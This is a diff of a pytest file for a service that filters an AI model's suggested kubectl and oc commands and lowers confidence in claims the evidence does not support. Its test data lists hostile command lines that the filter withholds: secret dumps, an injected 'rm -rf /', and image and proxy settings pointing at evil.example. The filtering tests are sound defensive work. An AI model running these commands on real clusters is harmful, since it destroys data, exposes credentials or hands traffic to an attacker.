@@ -9,18 +9,17 @@ import pytest
 from libs.contracts.causes import NoCause
 from libs.contracts.evidence import EvidenceItem
 from libs.contracts.target import Target
+from services.holmesgpt_api.domain.advice import LEFT_OUT, NOT_SEEN, harmless
 from services.holmesgpt_api.domain.model import ModelFailed, Told
 from services.holmesgpt_api.domain.opinion import (
-    LEFT_OUT,
     PARTLY,
     SUREST,
     conclude,
     fall_back,
     first_sentences,
-    harmless,
 )
 from services.holmesgpt_api.domain.triage import conclude as by_triage
-from services.holmesgpt_api.domain.verdict import ModelUse, Verdict
+from services.holmesgpt_api.domain.verdict import ModelUse, ToolUse, Verdict
 from services.holmesgpt_api.engine.messages import Opinion
 from tests.support.investigations import CHECKOUT, CONFIG, DATABASE, cause, claimed, evidence, found, nothing
 
@@ -187,9 +186,12 @@ def test_an_object_nobody_spelled_has_the_group_that_was_written():
     ("command", "shown"),
     [
         ("kubectl get pods -n shop", True),
-        ("kubectl -n shop logs checkout-1 --previous", True),
+        ("kubectl -n shop logs deployment/checkout --previous", True),
         ("kubectl rollout undo deployment/checkout -n shop", True),
         ("oc scale deployment checkout --replicas=3", True),
+        ("kubectl get secret db-password -n data -o yaml", False),
+        ("kubectl get secrets -A --output=json", False),
+        ("kubectl edit secret/db-password -n data", False),
         ("kubectl delete namespace shop", False),
         ("kubectl exec -it checkout-1 -- sh", False),
         ("kubectl get pods; rm -rf /", False),
@@ -211,6 +213,100 @@ def test_only_harmless_commands_of_a_model_are_shown(command: str, shown: bool):
     assert one.command == (command if shown else None)
     assert (LEFT_OUT in one.description) is not shown
     assert "read it before you run it" in one.risk
+
+
+@pytest.mark.parametrize(
+    ("command", "unseen"),
+    [
+        ("kubectl rollout undo deployment/billing -n shop", "deployment billing"),
+        ("kubectl -n shop rollout undo deployment billing", "deployment billing"),
+        ("kubectl scale statefulset/orders-db -n shop --replicas=0", "statefulset orders-db"),
+        ("kubectl scale sts --replicas=0 -n payments", "namespace payments"),
+        ("kubectl logs checkout-0 -n shop -c app", "pod checkout-0"),
+        ("kubectl get pods -n=kube-system", "namespace kube-system"),
+        ("kubectl get pods -nkube-system", "namespace kube-system"),
+        ("kubectl get pod web-1 web-2 -n data", "pod web-1, pod web-2"),
+        ("kubectl describe configmap/orders-db-config configmap/other -n data", "configmap other"),
+        ("kubectl uncordon node-b", "node node-b"),
+        ("kubectl set image deployment/checkout -n shop app=evil.example/x:1", "evil.example/x:1"),
+        ("kubectl set env deployment/checkout -n shop HTTP_PROXY=http://evil.example", "http://evil.example"),
+        ("oc get deploy/checkout 'x", "oc get deploy/checkout 'x"),
+    ],
+)
+@pytest.mark.requirement("HAPI-073")
+def test_a_command_that_names_what_nobody_looked_at_is_left_out(command: str, unseen: str):
+    advice = [{"title": "Do it", "description": "So.", "command": command}]
+
+    (one,) = conclude(
+        told(evidence("e2", DATABASE), recommendations=advice), interim(), claimed()
+    ).recommendations
+
+    assert one.command is None
+    assert one.description == f"So. {NOT_SEEN.format(unseen)}"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "kubectl get configmap orders-db-config -n data -o yaml",
+        "kubectl scale statefulset/orders-db -n data --replicas=1",
+        "kubectl -n data logs statefulset/orders-db -c postgres --tail 50",
+        "kubectl get events -n shop --sort-by=.lastTimestamp",
+        "kubectl get deploy,cm checkout -n shop",
+        "kubectl top pods -n shop",
+        "kubectl explain pod.spec.containers",
+    ],
+)
+def test_a_command_about_what_was_looked_at_is_shown(command: str):
+    advice = [{"title": "Do it", "command": command}]
+
+    (one,) = conclude(
+        told(evidence("e2", DATABASE), recommendations=advice), interim(), claimed()
+    ).recommendations
+
+    assert one.command == command
+
+
+def test_a_cause_with_an_invented_number_counts_less_and_says_so():
+    verdict = conclude(told(cause={"text": "It has 512Mi.", "confidence": 0.9}), interim(), claimed())
+
+    assert verdict.results.cause is not None
+    assert verdict.results.cause.confidence.value == PARTLY
+    assert 'of what it says: not-in-evidence: "512Mi"' in verdict.confidence_basis
+    assert verdict.results.claims[0].reason == 'not-in-evidence: "512Mi"'
+
+
+def test_a_cause_nobody_looked_at_counts_less_and_says_so():
+    verdict = conclude(told(cause={"target": "Deployment/shop/billing"}), interim(), claimed())
+
+    assert verdict.results.cause is not None
+    assert verdict.results.cause.confidence.value == PARTLY
+    assert "of what it says: nobody looked at Deployment/shop/billing" in verdict.confidence_basis
+
+
+def test_what_of_a_summary_does_not_stand_is_left_out_and_told():
+    verdict = conclude(
+        told(summary="It was edited at 09:05. It has used 99 % of its memory."), interim(), claimed()
+    )
+
+    assert verdict.summary == "It was edited at 09:05."
+    assert 'left out of the model\'s summary: not-in-evidence: "99 %"' in verdict.confidence_basis
+
+
+def test_of_a_summary_without_a_true_sentence_the_cause_is_left():
+    verdict = conclude(told(summary="Reboot node-x."), interim(), claimed())
+
+    assert verdict.summary == f"The model names {CONFIG} (ConfigChanged)."
+
+
+def test_what_a_tool_was_asked_about_was_looked_at_even_if_nothing_was_found():
+    asked = ToolUse(tool="get_logs", arguments={"namespace": "shop", "pod": "checkout-0"}, ok=True)
+    advice = [{"title": "Look", "command": "kubectl logs checkout-0 -n shop"}]
+    use = USE.model_copy(update={"tools": [asked]})
+
+    (one,) = conclude(Told(said(recommendations=advice), [], use), interim(), claimed()).recommendations
+
+    assert one.command is not None
 
 
 def test_a_command_that_triage_gives_too_is_shown():
